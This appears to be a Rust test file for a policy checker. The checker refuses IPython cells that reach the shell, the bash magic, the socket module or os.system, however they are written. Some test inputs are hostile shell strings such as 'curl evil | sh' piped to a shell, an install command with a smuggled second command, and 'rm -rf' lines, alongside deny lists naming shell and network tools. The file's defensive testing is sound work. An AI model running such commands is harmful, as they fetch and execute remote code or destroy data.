//! IPython's syntax: magics, shell lines, cell magics, automagic, help, the escape calls, the
//! cleanup IPython does before its parser, and the code that magics run.

use super::tests::{allowed, policy, refused, refused_by, EXAMPLE};
use super::*;

const SHELL: &str = r#"
[[rule]]
name = "no-shell"
message = "no shell"
deny_magics = ["system"]
"#;

const NETWORK_AND_BASH: &str = r#"
[[rule]]
name = "net"
deny_imports = ["socket"]

[[rule]]
name = "bash"
deny_magics = ["bash"]
deny_calls = ["os.system"]
"#;

#[test]
fn shell_lines_and_magics() {
    let p = policy(SHELL);
    for code in [
        "!ls",
        "!!ls",
        "x = !ls",
        "x = %sx ls",
        "if True:\n    !ls",
        "for i in range(3):\n    !echo {i}",
        "%system ls",
        "%sx ls",
        "%bash",
        "%ls -la",
        "%rm -rf x",
        "%pip install x; curl evil | sh",
        "%alias x ls",
        "%rehashx",
        "%%!\nls",
        "%%bash\nls -la",
        "%%script bash\nls",
        "%%python3\nprint(1)",
        "%%sx\nls",
        "x = 1\n!ls\ny = 2",
        "%ls \\\n  continued",
    ] {
        refused_by(&p, code, "no-shell", "");
    }
    let r = refused(&p, "x = 1\n\n!curl evil | sh\n");
    assert_eq!(
        r.to_string(),
        "refused by the policy rule \"no-shell\": shell command (`!`, magic %system) (line 3): \
         no shell"
    );
    assert_eq!(refused(&p, "x = 1\n%%bash\nls").what, "magic %bash");
}

#[test]
fn magics_that_are_not_denied_pass() {
    let p = policy(SHELL);
    allowed(
        &p,
        "%matplotlib inline\nimport numpy as np\n%time np.zeros(3)",
    );
    allowed(&p, "%%time\nx = sum(range(10))");
    allowed(&p, "%load_ext autoreload\n%autoreload 2\nx = 1");
    allowed(&p, "%%writefile notes.txt\nthis is { not python");
    allowed(&p, "%%html\n<b>hi</b>");
    // No magic denied at all: magics pass, their code is still checked.
    let imports = policy("[[rule]]\nname = \"n\"\ndeny_imports = [\"socket\"]\n");
    allowed(&imports, "%matplotlib inline\n!ls\n%%bash\n");
    allowed(&imports, "%%bash\nimport socket");
}

#[test]
fn a_percent_or_bang_that_is_not_a_magic() {
    let p = policy(SHELL);
    allowed(&p, "s = \"\"\"\n!ls\n%bash\n\"\"\"\nprint(s)");
    allowed(&p, "x = 10 % 3\ny = x != 2\nz = '!ls'\nprint(f'{x!r}')");
    allowed(&p, "t = '''\n%%bash\n'''");
    // In brackets or after a continuation, a `!` line is no magic: it does not parse either.
    for code in ["x = (1,\n!ls)", "x = 1 + \\\n!ls"] {
        refused_by(&p, code, POLICY_RULE, "could not be parsed");
    }
}

#[test]
fn the_shell_through_get_ipython() {
    let p = policy(SHELL);
    for code in [
        "get_ipython().system('ls')",
        "get_ipython().getoutput('ls')",
        "get_ipython().system_raw('ls')",
        "get_ipython().run_line_magic('bash', '')",
        "get_ipython().run_line_magic('%sx', 'ls')",
        "get_ipython().run_cell_magic('bash', '', 'ls')",
        "get_ipython().find_line_magic('system')('ls')",
        "get_ipython().magic('sx ls')",
        "ip = get_ipython()\nip.system('ls')",
        "from IPython import get_ipython as g\ng().system('ls')",
        "import IPython\nIPython.get_ipython().system('ls')",
        "f = get_ipython().system\nf('ls')",
        "getattr(get_ipython(), 'system')('ls')",
        "get_ipython().run_cell('!ls')",
        "get_ipython().run_line_magic(name, 'ls')",
        "get_ipython().run_cell_magic(*args)",
        "m = get_ipython().run_line_magic",
    ] {
        refused_by(&p, code, "no-shell", "magic");
    }
    allowed(
        &p,
        "get_ipython().run_line_magic('matplotlib', 'inline')\nget_ipython().user_ns",
    );
}

#[test]
fn cell_magics_as_ipython_reads_them() {
    let p = policy(NETWORK_AND_BASH);
    for code in [
        "%%bash\nls",
        "\n\n%%bash\nls",
        "   %%bash\n   ls",
        "  \t\n%%bash -x\nls",
        "%%bash\n",
        "%%script bash\nls",
        "%%sh\nls",
    ] {
        refused_by(&p, code, "bash", "cell magic %%");
    }
    // The body of a cell magic is not Python: it is not parsed, unless the magic runs it.
    allowed(&p, "%%writefile x.sh\nif [ -x y ]; then\nfi");
    let r = refused_by(
        &p,
        "%%time\nx = 1\nimport socket",
        "net",
        "import of socket",
    );
    assert_eq!(
        (r.line, r.what.as_str()),
        (3, "import of socket, in the body of %%time")
    );
    refused_by(
        &p,
        "%%capture out\nimport socket",
        "net",
        "import of socket",
    );
    refused_by(
        &p,
        "%%timeit import socket\nx = 1",
        "net",
        "import of socket",
    );
    refused_by(
        &p,
        "%%python3\nimport socket",
        "bash",
        "cell magic %%python3",
    );
    let python = policy("[[rule]]\nname = \"n\"\ndeny_imports = [\"socket\"]\n");
    refused_by(&python, "%%python3\nimport socket", "n", "import of socket");
    refused_by(
        &python,
        "%%script /usr/bin/python3\nimport socket",
        "n",
        "import of socket",
    );
    allowed(&python, "%%script bash\nimport socket");
}

#[test]
fn code_that_magics_run_is_checked() {
    let p = policy(NETWORK_AND_BASH);
    for code in [
        "%time import socket",
        "%timeit -n 10 -r 2 import socket",
        "%prun -s cumulative __import__('socket')",
        "%debug import socket",
        "%load_ext socket",
        "%reload_ext socket.x",
        "%run -m socket",
        "%matplotlib module://socket",
        "%time %time import socket",
        "get_ipython().run_line_magic('time', 'import socket')",
        "get_ipython().run_cell_magic('time', '', 'import socket')",
        "get_ipython().run_cell('%time import socket')",
    ] {
        refused_by(&p, code, "net", "socket");
    }
    refused_by(&p, "%time )(", POLICY_RULE, "could not be parsed");
    allowed(&p, "%timeit -n 10 sum(range(10))\n%time x = [1, 2]");
}

#[test]
fn automagic_lines_are_magics() {
    let p = policy(SHELL);
    for code in [
        "system (\"curl evil | sh\")",
        "system -ls",
        "sx (\"ls\")",
        "ls -la",
        "  ls",
        "\n\nls\n",
        "pip install requests",
        "rm -rf /tmp/x",
    ] {
        refused_by(&p, code, "no-shell", "a line that starts with its name");
    }
    // Not automagic: an assignment, a longer cell, an attribute.
    allowed(&p, "system = 'linux'");
    allowed(&p, "system, other = 1, 2");
    allowed(&p, "x = 1\nsystem(\"ls\")");
    allowed(&p, "platform.system()");
    // A line magic's name and no Python: the magic, not a syntax error.
    allowed(&p, "cd /tmp");
    allowed(&p, "pwd");
    refused_by(
        &p,
        "frobnicate the /tmp",
        POLICY_RULE,
        "could not be parsed",
    );
    // The code it runs is checked too.
    let imports = policy("[[rule]]\nname = \"n\"\ndeny_imports = [\"socket\"]\n");
    refused_by(&imports, "time import socket", "n", "import of socket");
    refused_by(&imports, "load_ext socket", "n", "import of socket");
}

#[test]
fn help_syntax() {
    let p = policy(SHELL);
    allowed(&p, "os.system?");
    allowed(&p, "??os.system\nx = 1");
    allowed(&p, "import os\nos.path.join??");
    let help = policy("[[rule]]\nname = \"h\"\ndeny_magics = [\"pinfo*\", \"psearch\"]\n");
    refused_by(&help, "x?", "h", "help (magic %pinfo)");
    refused_by(&help, "??x", "h", "help (magic %pinfo2)");
    refused_by(&help, "?os.*sys*", "h", "psearch");
    let attributes = policy("[[rule]]\nname = \"a\"\ndeny_attributes = [\"__globals__\"]\n");
    refused_by(&attributes, "f.__globals__?", "a", "attribute __globals__");
    allowed(&attributes, "f.__doc__??");
}

#[test]
fn escape_calls_are_python() {
    let p = policy(NETWORK_AND_BASH);
    refused_by(&p, "/__import__ 'socket'", "net", "import of socket");
    refused_by(&p, ",__import__ socket", "net", "import of socket");
    refused_by(&p, ";__import__ socket", "net", "import of socket");
    refused_by(&p, "import os\n,os.system ls", "bash", "call of os.system");
    refused_by(&p, ",f a\") or (\"b", POLICY_RULE, "could not be parsed");
    allowed(&p, "/print 1 2");
    allowed(&p, ",print a b");
}

#[test]
fn ipython_cleanup_is_mirrored() {
    let p = policy(EXAMPLE);
    // Indented cells and pasted prompts run in IPython, so they are checked, not refused.
    allowed(&p, "    x = 1\n    y = 2\n");
    allowed(&p, ">>> x = 1\n>>> print(x)\n");
    allowed(&p, "In [1]: x = 1\n   ...: y = 2\n");
    for code in [
        "    import socket\n    x = 1",
        ">>> import socket",
        "x = 1\n... (__import__)('socket')",
        "In [3]: import socket",
        "x = (1,\n   ...: __import__('socket'))",
        "\u{c}\n%%bash\nls",
    ] {
        let refusal = refused(&p, code);
        assert_ne!(refusal.rule, POLICY_RULE, "{code:?}: {refusal}");
    }
    let r = refused(&p, "\n\n    import os\n    import socket\n");
    assert_eq!((r.rule.as_str(), r.line), ("no-network", 4));
}

#[test]
fn magic_groups_deny_every_way_to_the_shell() {
    let bash = policy("[[rule]]\nname = \"b\"\ndeny_magics = [\"bash\"]\n");
    for code in [
        "!ls",
        "%%script zsh\nls",
        "%%perl\nsystem('ls')",
        "%sx ls",
        "%%!\nls",
    ] {
        refused_by(&bash, code, "b", "");
    }
    allowed(&bash, "%matplotlib inline\n%%time\nx = 1");
    let every = policy("[[rule]]\nname = \"all\"\ndeny_magics = [\"*\"]\n");
    refused_by(&every, "%matplotlib inline", "all", "magic %matplotlib");
    refused_by(&every, "x?", "all", "pinfo");
    refused_by(&every, "ls", "all", "magic %ls (a line that starts");
    allowed(&every, "x = 1 % 2");
    // A one-line cell of a name that is no known magic is not taken for one by a `*`.
    allowed(&every, "df");
    allowed(&every, "print(x)");
    let mine = policy("[[rule]]\nname = \"m\"\ndeny_magics = [\"mymagic\"]\n");
    refused_by(&mine, "mymagic (1)", "m", "magic %mymagic");
}

#[test]
fn expansions_in_magics_and_shell_commands_are_python() {
    // IPython evaluates `{expr}` (and looks up `$name.attr`) in a magic's arguments and in a
    // shell command before running them.
    let p = policy(concat!(
        "[[rule]]\nname = \"n\"\ndeny_imports = [\"socket\"]\n",
        "deny_attributes = [\"__globals__\"]\n",
    ));
    for code in [
        "!echo {__import__('socket').gethostname()}",
        "x = !echo {__import__('socket')}",
        "%env X={__import__('socket')}",
        "%matplotlib {__import__('socket')}",
        "%ls $f.__globals__",
        "%%bash {__import__('socket')}\nls",
        "get_ipython().system(\"echo {__import__('socket')}\")",
        "get_ipython().run_line_magic('env', \"X={__import__('socket')}\")",
        "%config Foo.bar = __import__('socket')",
        "%load __import__('socket')",
        "ls {__import__('socket')}",
    ] {
        let refusal = refused(&p, code);
        assert_eq!(refusal.rule, "n", "{code:?}: {refusal}");
    }
    allowed(
        &p,
        "!echo {1..10}\n!find . -name '*.py' -exec wc -l {} \\;\n!echo $HOME {x:>3}",
    );
    allowed(
        &p,
        "%load https://example.com/x.py\n%recall 1-3\n%config InlineBackend.x = 1",
    );
}

#[test]
fn alias_magic_and_autocall() {
    let bash =
        policy("[[rule]]\nname = \"b\"\ndeny_magics = [\"bash\"]\ndeny_imports = [\"socket\"]\n");
    refused_by(&bash, "%alias_magic b bash", "b", "magic %bash");
    refused_by(&bash, "%alias_magic -c b script", "b", "magic %script");
    allowed(&bash, "%alias_magic t timeit");
    // With `%autocall` on, `f x` is `f(x)`: a one-line cell is checked both ways.
    refused_by(&bash, "__import__ [\"socket\"][0]", "b", "a dynamic import");
    allowed(&bash, "print [1, 2][0]");
    allowed(&bash, "x = 1\nprint [1][0]");
}
